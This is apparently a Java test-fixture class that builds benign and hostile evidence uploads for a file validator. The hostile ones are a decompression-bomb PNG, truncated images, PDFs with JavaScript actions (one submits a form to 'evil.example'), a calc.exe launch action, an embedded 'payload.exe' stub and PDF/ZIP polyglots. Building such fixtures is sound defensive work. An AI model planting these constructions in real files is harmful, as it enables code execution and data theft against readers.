package org.evenhand.testing;

import java.awt.Color;
import java.awt.Graphics2D;
import java.awt.image.BufferedImage;
import java.io.ByteArrayInputStream;
import java.io.ByteArrayOutputStream;
import java.io.IOException;
import java.io.UncheckedIOException;
import java.nio.ByteBuffer;
import java.nio.ByteOrder;
import java.nio.charset.StandardCharsets;
import java.util.ArrayList;
import java.util.Arrays;
import java.util.List;
import java.util.Map;
import java.util.zip.CRC32;
import java.util.zip.ZipEntry;
import java.util.zip.ZipOutputStream;
import javax.imageio.ImageIO;
import org.apache.pdfbox.pdmodel.PDDocument;
import org.apache.pdfbox.pdmodel.PDDocumentNameDictionary;
import org.apache.pdfbox.pdmodel.PDEmbeddedFilesNameTreeNode;
import org.apache.pdfbox.pdmodel.PDPage;
import org.apache.pdfbox.pdmodel.PDPageContentStream;
import org.apache.pdfbox.pdmodel.common.PDRectangle;
import org.apache.pdfbox.pdmodel.common.filespecification.PDComplexFileSpecification;
import org.apache.pdfbox.pdmodel.common.filespecification.PDEmbeddedFile;
import org.apache.pdfbox.pdmodel.common.filespecification.PDSimpleFileSpecification;
import org.apache.pdfbox.pdmodel.encryption.AccessPermission;
import org.apache.pdfbox.pdmodel.encryption.StandardProtectionPolicy;
import org.apache.pdfbox.pdmodel.font.PDType1Font;
import org.apache.pdfbox.pdmodel.font.Standard14Fonts;
import org.apache.pdfbox.pdmodel.interactive.action.PDActionJavaScript;
import org.apache.pdfbox.pdmodel.interactive.action.PDActionLaunch;
import org.apache.pdfbox.pdmodel.interactive.annotation.PDAnnotationFileAttachment;
import org.apache.pdfbox.pdmodel.interactive.annotation.PDAnnotationLink;

/**
 * Files that outsiders sent as evidence, good and hostile, made here from scratch: real PNG, JPEG
 * (with EXIF GPS and orientation) and PDF, and signature-only, truncated, bomb, active and
 * polyglot ones.
 */
public final class EvidenceFiles {

    /** The latitude written into the EXIF GPS block (51° 30' 26" N): found nowhere in a stored copy. */
    public static final String GPS_MARK = "EVENHAND-GPS-MARK";

    private EvidenceFiles() {
    }

    // ------------------------------------------------------------ images

    public static BufferedImage picture(int w, int h) {
        BufferedImage img = new BufferedImage(w, h, BufferedImage.TYPE_INT_RGB);
        Graphics2D g = img.createGraphics();
        g.setColor(Color.WHITE);
        g.fillRect(0, 0, w, h);
        g.setColor(Color.BLUE);
        g.fillRect(0, 0, w / 2, h / 2); // top-left quarter blue: shows which way up it is
        g.dispose();
        return img;
    }

    public static byte[] png(int w, int h) {
        return write(picture(w, h), "png");
    }

    public static byte[] jpeg(int w, int h) {
        return write(picture(w, h), "jpeg");
    }

    /** A PNG with a tEXt chunk (metadata) before its end. */
    public static byte[] pngWithText(int w, int h, String text) {
        byte[] png = png(w, h);
        int iend = png.length - 12;
        byte[] chunk = chunk("tEXt", ("Comment\0" + text).getBytes(StandardCharsets.ISO_8859_1));
        return concat(Arrays.copyOf(png, iend), chunk, Arrays.copyOfRange(png, iend, png.length));
    }

    /** Only the eight bytes of the PNG signature. */
    public static byte[] pngSignatureOnly() {
        return new byte[] { (byte) 0x89, 'P', 'N', 'G', '\r', '\n', 0x1a, '\n' };
    }

    /** Signature, a 1x1 IHDR and IEND, but no image data. */
    public static byte[] pngWithoutData() {
        return concat(pngSignatureOnly(), chunk("IHDR", ihdr(1, 1)), chunk("IEND", new byte[0]));
    }

    /** A small file whose header announces 100,000 x 100,000 pixels. */
    public static byte[] pngBomb() {
        return concat(pngSignatureOnly(), chunk("IHDR", ihdr(100_000, 100_000)), chunk("IDAT", new byte[] { 0x78, 1 }),
                chunk("IEND", new byte[0]));
    }

    /** A JPEG carrying an EXIF block with a GPS position and the given orientation (1 = as stored). */
    public static byte[] jpegWithExif(int w, int h, int orientation) {
        byte[] jpeg = jpeg(w, h);
        ByteBuffer tiff = ByteBuffer.allocate(200).order(ByteOrder.LITTLE_ENDIAN);
        tiff.put(new byte[] { 'I', 'I', 42, 0 }).putInt(8);
        // IFD0 at 8: orientation, GPS IFD pointer
        tiff.putShort((short) 2);
        tiff.putShort((short) 0x0112).putShort((short) 3).putInt(1).putShort((short) orientation).putShort((short) 0);
        tiff.putShort((short) 0x8825).putShort((short) 4).putInt(1).putInt(38);
        tiff.putInt(0);
        // GPS IFD at 38: latitude ref, latitude (3 rationals at 80), a processing-method note with the mark
        tiff.position(38);
        tiff.putShort((short) 3);
        tiff.putShort((short) 1).putShort((short) 2).putInt(2).put(new byte[] { 'N', 0, 0, 0 });
        tiff.putShort((short) 2).putShort((short) 5).putInt(3).putInt(80);
        tiff.putShort((short) 0x1b).putShort((short) 7).putInt(GPS_MARK.length()).putInt(104);
        tiff.putInt(0);
        tiff.position(80);
        tiff.putInt(51).putInt(1).putInt(30).putInt(1).putInt(26).putInt(1);
        tiff.position(104);
        tiff.put(GPS_MARK.getBytes(StandardCharsets.US_ASCII));
        byte[] exif = concat("Exif\0\0".getBytes(StandardCharsets.US_ASCII), Arrays.copyOf(tiff.array(), 104 + GPS_MARK.length()));
        int len = exif.length + 2;
        byte[] app1 = concat(new byte[] { (byte) 0xff, (byte) 0xe1, (byte) (len >> 8), (byte) len }, exif);
        return concat(Arrays.copyOf(jpeg, 2), app1, Arrays.copyOfRange(jpeg, 2, jpeg.length));
    }

    /** The markers of a JPEG's segments before its image data (0xE1 is APP1, where EXIF lives). */
    public static List<Integer> jpegMarkers(byte[] jpeg) {
        List<Integer> markers = new ArrayList<>();
        int i = 2;
        while (i + 4 <= jpeg.length && (jpeg[i] & 0xff) == 0xff) {
            int marker = jpeg[i + 1] & 0xff;
            markers.add(marker);
            if (marker == 0xda) {
                break;
            }
            i += 2 + ((jpeg[i + 2] & 0xff) << 8 | (jpeg[i + 3] & 0xff));
        }
        return markers;
    }

    public static BufferedImage read(byte[] bytes) {
        try {
            return ImageIO.read(new ByteArrayInputStream(bytes));
        } catch (IOException e) {
            throw new UncheckedIOException(e);
        }
    }

    // ------------------------------------------------------------ PDFs

    public interface Customise {
        void apply(PDDocument doc, PDPage page) throws IOException;
    }

    public static byte[] pdf() {
        return pdf((doc, page) -> {
        });
    }

    public static byte[] pdf(Customise customise) {
        try (PDDocument doc = new PDDocument()) {
            PDPage page = new PDPage(PDRectangle.A4);
            doc.addPage(page);
            try (PDPageContentStream cs = new PDPageContentStream(doc, page)) {
                cs.beginText();
                cs.setFont(new PDType1Font(Standard14Fonts.FontName.HELVETICA), 12);
                cs.newLineAtOffset(72, 720);
                cs.showText("Minutes of the branch meeting");
                cs.endText();
            }
            customise.apply(doc, page);
            ByteArrayOutputStream out = new ByteArrayOutputStream();
            doc.save(out);
            return out.toByteArray();
        } catch (IOException e) {
            throw new UncheckedIOException(e);
        }
    }

    public static byte[] pdfWithOpenActionJavaScript() {
        return pdf((doc, page) -> doc.getDocumentCatalog().setOpenAction(new PDActionJavaScript("app.alert('hi');")));
    }

    public static byte[] pdfWithLinkJavaScript() {
        return pdf((doc, page) -> {
            PDAnnotationLink link = new PDAnnotationLink();
            link.setRectangle(new PDRectangle(72, 700, 100, 20));
            link.setAction(new PDActionJavaScript("this.submitForm('https://evil.example/')"));
            page.getAnnotations().add(link);
        });
    }

    public static byte[] pdfWithJavaScriptUri() {
        return pdf((doc, page) -> {
            PDAnnotationLink link = new PDAnnotationLink();
            link.setRectangle(new PDRectangle(72, 700, 100, 20));
            org.apache.pdfbox.pdmodel.interactive.action.PDActionURI uri = new org.apache.pdfbox.pdmodel.interactive.action.PDActionURI();
            uri.setURI(" JavaScript:app.alert(1)");
            link.setAction(uri);
            page.getAnnotations().add(link);
        });
    }

    /** A link to a web address: ordinary, and accepted. */
    public static byte[] pdfWithWebLink() {
        return pdf((doc, page) -> {
            PDAnnotationLink link = new PDAnnotationLink();
            link.setRectangle(new PDRectangle(72, 700, 100, 20));
            org.apache.pdfbox.pdmodel.interactive.action.PDActionURI uri = new org.apache.pdfbox.pdmodel.interactive.action.PDActionURI();
            uri.setURI("https://social.example/posts/8812");
            link.setAction(uri);
            page.getAnnotations().add(link);
        });
    }

    public static byte[] pdfWithLaunch() {
        return pdf((doc, page) -> {
            PDActionLaunch launch = new PDActionLaunch();
            launch.setFile(new PDSimpleFileSpecification(new org.apache.pdfbox.cos.COSString("C:\\Windows\\System32\\calc.exe")));
            doc.getDocumentCatalog().setOpenAction(launch);
        });
    }

    public static byte[] pdfWithEmbeddedFile() {
        return pdf((doc, page) -> {
            PDComplexFileSpecification spec = new PDComplexFileSpecification();
            spec.setFile("payload.exe");
            spec.setEmbeddedFile(new PDEmbeddedFile(doc, new ByteArrayInputStream(new byte[] { 'M', 'Z', 0 })));
            PDEmbeddedFilesNameTreeNode tree = new PDEmbeddedFilesNameTreeNode();
            tree.setNames(Map.of("payload.exe", spec));
            PDDocumentNameDictionary names = new PDDocumentNameDictionary(doc.getDocumentCatalog());
            names.setEmbeddedFiles(tree);
            doc.getDocumentCatalog().setNames(names);
        });
    }

    public static byte[] pdfWithAttachmentAnnotation() {
        return pdf((doc, page) -> {
            PDAnnotationFileAttachment a = new PDAnnotationFileAttachment();
            a.setRectangle(new PDRectangle(72, 600, 20, 20));
            PDComplexFileSpecification spec = new PDComplexFileSpecification();
            spec.setFile("notes.txt");
            spec.setEmbeddedFile(new PDEmbeddedFile(doc, new ByteArrayInputStream("secret".getBytes(StandardCharsets.UTF_8))));
            a.setFile(spec);
            page.getAnnotations().add(a);
        });
    }

    public static byte[] pdfEncrypted() {
        return pdf((doc, page) -> doc.protect(new StandardProtectionPolicy("owner-pw", "user-pw", new AccessPermission())));
    }

    /** A PDF followed by a ZIP archive: a PDF reader and a ZIP reader each find their own file. */
    public static byte[] pdfZipPolyglot() {
        return concat(pdf(), zip("readme.txt", "I am also a ZIP archive"));
    }

    /** A ZIP archive hidden before the PDF's end (a ZIP reader finds it from the end of the file). */
    public static byte[] pdfWithZipInside() {
        byte[] pdf = pdf();
        int eof = pdf.length;
        while (!new String(pdf, eof - 6, 5, StandardCharsets.ISO_8859_1).equals("%%EOF")) {
            eof--;
        }
        eof -= 6;
        return concat(Arrays.copyOf(pdf, eof), zip("a.txt", "hidden"), Arrays.copyOfRange(pdf, eof, pdf.length));
    }

    public static byte[] zip(String name, String content) {
        try {
            ByteArrayOutputStream out = new ByteArrayOutputStream();
            try (ZipOutputStream z = new ZipOutputStream(out)) {
                z.putNextEntry(new ZipEntry(name));
                z.write(content.getBytes(StandardCharsets.UTF_8));
                z.closeEntry();
            }
            return out.toByteArray();
        } catch (IOException e) {
            throw new UncheckedIOException(e);
        }
    }

    // ------------------------------------------------------------ bytes

    public static byte[] concat(byte[]... parts) {
        ByteArrayOutputStream out = new ByteArrayOutputStream();
        for (byte[] p : parts) {
            out.writeBytes(p);
        }
        return out.toByteArray();
    }

    public static boolean contains(byte[] haystack, String needle) {
        return new String(haystack, StandardCharsets.ISO_8859_1).contains(needle);
    }

    private static byte[] write(BufferedImage img, String format) {
        try {
            ByteArrayOutputStream out = new ByteArrayOutputStream();
            if (!ImageIO.write(img, format, out)) {
                throw new IllegalStateException("no writer for " + format);
            }
            return out.toByteArray();
        } catch (IOException e) {
            throw new UncheckedIOException(e);
        }
    }

    private static byte[] ihdr(int w, int h) {
        return ByteBuffer.allocate(13).putInt(w).putInt(h).put((byte) 8).put((byte) 2).put((byte) 0).put((byte) 0)
                .put((byte) 0).array();
    }

    private static byte[] chunk(String type, byte[] data) {
        byte[] t = type.getBytes(StandardCharsets.US_ASCII);
        CRC32 crc = new CRC32();
        crc.update(t);
        crc.update(data);
        return ByteBuffer.allocate(12 + data.length).putInt(data.length).put(t).put(data).putInt((int) crc.getValue())
                .array();
    }
}
